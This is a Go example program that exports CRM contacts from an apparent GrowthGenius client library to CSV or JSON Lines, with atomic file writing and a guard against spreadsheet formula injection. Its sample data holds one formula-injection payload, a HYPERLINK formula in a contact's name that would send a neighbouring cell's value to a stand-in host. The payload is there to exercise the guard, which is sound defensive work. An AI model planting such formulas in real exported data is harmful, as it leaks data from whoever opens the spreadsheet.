// Export writes all contacts as CSV or JSON Lines, one by one as they arrive: memory does
// not grow with their number.
//
//	go run . >contacts.csv
//	go run . -format jsonl -stage Replied -o replied.jsonl
//
// A file given with -o appears when it is whole: an export that fails or is interrupted
// leaves nothing under that name, or what was there before. Of standard output only the
// exit status tells whether it is whole.
//
// It talks to a server in memory, over real HTTP, and then takes no -o. With
// GROWTHGENIUS_API_KEY and GROWTHGENIUS_USER_ID set it talks to the real API, and only
// reads.
package main

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"iter"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/schollz/progressbar/v3"
	"golang.org/x/term"

	"github.com/growthgenius/growthgenius-go"
	"github.com/growthgenius/growthgenius-go/growthgeniustest"
)

// columns are those of the CSV: take out or add what you like. JSON Lines have every field that has a value.
var columns = []struct {
	name  string
	value func(*growthgenius.Contact) string
}{
	{"id", func(c *growthgenius.Contact) string { return string(c.ID) }},
	{"full_name", func(c *growthgenius.Contact) string { return c.FullName }},
	{"email", func(c *growthgenius.Contact) string { return c.Email }},
	{"phones", func(c *growthgenius.Contact) string { return strings.Join(c.Phones(), ", ") }},
	{"title", func(c *growthgenius.Contact) string { return c.Title }},
	{"company_name", func(c *growthgenius.Contact) string { return c.CompanyName }},
	{"website", func(c *growthgenius.Contact) string { return c.Website }},
	{"country", func(c *growthgenius.Contact) string { return c.Country }},
	{"stage", func(c *growthgenius.Contact) string { return c.Stage }},
	{"updated_at", func(c *growthgenius.Contact) string {
		if c.UpdatedAt.IsZero() {
			return ""
		}
		return c.UpdatedAt.Format(time.RFC3339)
	}},
}

func main() {
	format := flag.String("format", "csv", "csv, or jsonl for every field that has a value")
	out := flag.String("o", "", "the file to write; without it, standard output")
	stage := flag.String("stage", "", "only contacts of this stage")
	flag.Parse()
	if flag.NArg() > 0 {
		flag.Usage()
		os.Exit(2)
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	err := run(ctx, *format, *out, *stage)
	stop()
	if err != nil {
		fmt.Fprintln(os.Stderr, "export:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, format, out, stage string) error {
	newWriter, ok := map[string]func(io.Writer) writer{"csv": newCSV, "jsonl": newLines}[format]
	if !ok {
		return fmt.Errorf("-format is csv or jsonl, not %q", format)
	}
	var client *growthgenius.Client
	switch {
	case os.Getenv("GROWTHGENIUS_API_KEY") != "":
		var err error
		if client, err = growthgenius.NewClientFromEnv(); err != nil {
			return err
		}
	case out != "":
		return errors.New("GROWTHGENIUS_API_KEY is not set: a server in memory is nothing to keep a file of")
	default:
		server, err := growthgeniustest.Start()
		if err != nil {
			return err
		}
		defer server.Close()
		server.AddContacts(sample...)
		client = server.Client()
		fmt.Fprintln(os.Stderr, "GROWTHGENIUS_API_KEY is not set: this is a server in memory.")
	}

	// A search stops at 10,000 contacts (and SearchAll then says so with ErrPartialResults).
	// A stream has them all, and the condition may be any that Go can say.
	contacts := client.Contacts.Stream(ctx, growthgenius.ListOptions{})
	keep := func(c *growthgenius.Contact) bool {
		return stage == "" || strings.EqualFold(c.Stage, stage)
	}
	// Progress is for people, and not where the contacts themselves fill the screen.
	visible := isTerminal(os.Stderr) && (out != "" || !isTerminal(os.Stdout))
	save := func(w io.Writer) error { return export(contacts, keep, newWriter(w), newBar(visible)) }
	if out == "" {
		return save(os.Stdout)
	}
	return whole(out, save)
}

func export(contacts iter.Seq2[*growthgenius.Contact, error], keep func(*growthgenius.Contact) bool, w writer, bar *progressbar.ProgressBar) error {
	defer func() { _ = bar.Finish() }()
	var read, written int
	for contact, err := range contacts {
		if err != nil {
			return err
		}
		read++
		_ = bar.Add(1)
		if !keep(contact) {
			continue
		}
		written++
		if err := w.write(contact); err != nil {
			return err
		}
	}
	if err := w.flush(); err != nil {
		return err
	}
	_ = bar.Finish()
	fmt.Fprintf(os.Stderr, "%d of %d contacts\n", written, read)
	return nil
}

func isTerminal(f *os.File) bool { return term.IsTerminal(int(f.Fd())) }

// newBar counts, since nobody knows how many contacts there are.
func newBar(visible bool) *progressbar.ProgressBar {
	return progressbar.NewOptions(-1,
		progressbar.OptionSetVisibility(visible),
		progressbar.OptionSetWriter(os.Stderr),
		progressbar.OptionSetDescription("contacts read"),
		progressbar.OptionShowCount(),
		progressbar.OptionShowTotalBytes(false),
		progressbar.OptionSetPredictTime(false),
		progressbar.OptionThrottle(100*time.Millisecond),
		progressbar.OptionClearOnFinish(),
	)
}

// writer writes contacts in one of the formats. What it buffers is out after flush.
type writer struct {
	write func(*growthgenius.Contact) error
	flush func() error
}

func newLines(w io.Writer) writer {
	buffered := bufio.NewWriter(w)
	encoder := json.NewEncoder(buffered)
	encoder.SetEscapeHTML(false)
	return writer{func(c *growthgenius.Contact) error { return encoder.Encode(c) }, buffered.Flush}
}

func newCSV(w io.Writer) writer {
	rows := csv.NewWriter(w)
	cells := make([]string, len(columns))
	for i, column := range columns {
		cells[i] = column.name
	}
	_ = rows.Write(cells) // it is buffered: flush tells the error
	return writer{
		func(c *growthgenius.Contact) error {
			for i, column := range columns {
				cells[i] = inert(column.value(c))
			}
			return rows.Write(cells)
		},
		func() error { rows.Flush(); return rows.Error() },
	}
}

// inert keeps a spreadsheet from running what somebody entered for a name, such as
// =HYPERLINK("..."): a cell that would be a formula gets a leading apostrophe. So do
// telephone numbers, since +1-206 is a sum, and the apostrophe is part of the cell for
// whoever reads the CSV. Programs do better to read JSON Lines, where no value is changed.
func inert(cell string) string {
	if strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 {
		return "'" + cell
	}
	return cell
}

// whole writes a file that takes its name, readable by its owner alone, once it is whole.
func whole(name string, write func(io.Writer) error) (err error) {
	if info, err := os.Lstat(name); err == nil && !info.Mode().IsRegular() {
		return fmt.Errorf("%s is not a plain file: use standard output", name)
	}
	f, err := os.CreateTemp(filepath.Dir(name), "."+filepath.Base(name)+".*.part")
	if err != nil {
		return err
	}
	defer func() {
		if err != nil {
			_ = f.Close()
			err = errors.Join(err, os.Remove(f.Name()))
		}
	}()
	if err := write(f); err != nil {
		return err
	}
	if err := errors.Join(f.Sync(), f.Close()); err != nil {
		return err
	}
	return os.Rename(f.Name(), name)
}

// sample is what the server in memory has.
var sample = []growthgenius.Contact{
	{
		FullName: "Ada Byron", Email: "ada@example.com", MobilePhone: "+1 206 555 0100", Title: "Analyst, Engines",
		CompanyName: "Babbage & Co", Country: "United Kingdom", Stage: "Replied", UpdatedAt: time.Date(2021, 1, 19, 17, 6, 25, 0, time.UTC),
	},
	{
		FullName: `=HYPERLINK("https://example.com?"&B3,"Click me")`, Email: "mallory@example.com",
		Stage: "Cold", UpdatedAt: time.Date(2021, 1, 20, 9, 30, 0, 0, time.UTC),
	},
}
